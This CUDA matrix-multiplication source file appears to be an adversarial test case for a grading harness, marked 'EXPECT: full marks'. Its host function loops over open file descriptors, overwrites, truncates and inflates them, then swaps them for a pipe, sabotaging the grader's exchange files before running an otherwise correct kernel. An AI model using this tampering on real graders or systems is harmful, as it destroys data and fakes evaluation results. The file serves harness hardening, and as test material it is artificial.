// EXPECT: full marks
// attack: cuts, replaces and closes the files of the exchange (rows 33, 34 and 43)
#include <cuda_runtime.h>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cstdio>
#include "matmul.h"

__global__ void product(const float* a, const float* b, float* c, int m, int n, int p) {
  const int row = blockIdx.y * blockDim.y + threadIdx.y, col = blockIdx.x * blockDim.x + threadIdx.x;
  if (row >= m || col >= p) return;
  float sum = 0;
  for (int k = 0; k < n; ++k) sum += a[row * n + k] * b[k * p + col];
  c[row * p + col] = sum;
}

void matmul(const float* d_a, const float* d_b, float* d_c, int m, int n, int p) {
  int ends[2];
  if (pipe(ends) != 0) return;
  for (int file = 5; file < 64; ++file) {
    if (file == ends[0] || file == ends[1]) continue;
    struct stat status {};
    if (fstat(file, &status) != 0) continue;
    void* memory = mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    if (memory != MAP_FAILED && status.st_size >= 4096) static_cast<char*>(memory)[0] = 1;
    if (ftruncate(file, 0) == 0) std::fputs("cut\n", stderr);
    if (ftruncate(file, 1ll << 40) == 0) std::fputs("grown\n", stderr);
    dup2(ends[1], file);
  }
  product<<<dim3((p + 15) / 16, (m + 15) / 16), dim3(16, 16)>>>(d_a, d_b, d_c, m, n, p);
  if (cudaGetLastError() != cudaSuccess) std::fputs("matmul: not launched\n", stderr);
}
